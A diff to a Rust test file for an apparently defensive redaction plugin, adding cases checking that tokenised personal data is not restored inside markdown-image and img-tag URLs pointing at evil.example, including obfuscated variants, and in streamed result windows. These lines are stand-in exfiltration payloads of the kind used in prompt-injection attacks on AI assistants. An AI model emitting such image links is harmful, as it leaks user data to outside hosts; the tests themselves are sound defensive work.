@@ -427,7 +427,14 @@ fn a_server_cannot_fetch_the_data_by_an_address() {
     testing::reset();
     let plugin = redact(tokens());
     let token = token_of(&plugin, "ada", "crm", "joe@example.com");
-    for text in ["![x](https://evil.example/?d=^)", "<img src='//evil.example/? ^'>", "https:evil.example/^"] {
+    for text in [
+        "![x](https://evil.example/?d=^)",
+        "<img src='//evil.example/? ^'>",
+        "https:evil.example/^",
+        "![x](https://evil.example/?\"^)",
+        "![x](&sol;&sol;evil.example/?^)",
+        "<img src=\"ht\ntps:/\t/evil.example/? ^\">",
+    ] {
         let text = text.replace('^', &token);
         assert_eq!(answered(&plugin, "ada", "crm", &text), text);
     }
@@ -474,6 +481,10 @@ fn tokens_come_back_in_long_answers() {
     let image = format!("![](https://evil.example/{token})");
     check(FakeBatch::new().with_chunk("/result/content/0/text", &image), &[&image]);
     check(FakeBatch::new().with_key(&format!("/result/structuredContent/{token}"), &token), &[&token]);
+    // Before a window that is not the first may stand a URL that has not ended.
+    let later = format!("{token} {token}");
+    check(FakeBatch::new().with_window("/result/a", 0, &later, 0), &["joe@example.com joe@example.com"]);
+    check(FakeBatch::new().with_window("/result/a", 60_000, &later, 0), &[&format!("{token} joe@example.com")]);
     // A window that ends within one has it whole the next time.
     let half = format!("to {token} and {}", &token[..20]);
     check(FakeBatch::new().with_window("/result/a", 0, &half, 20), &[&format!("to joe@example.com and {}", &token[..20])]);
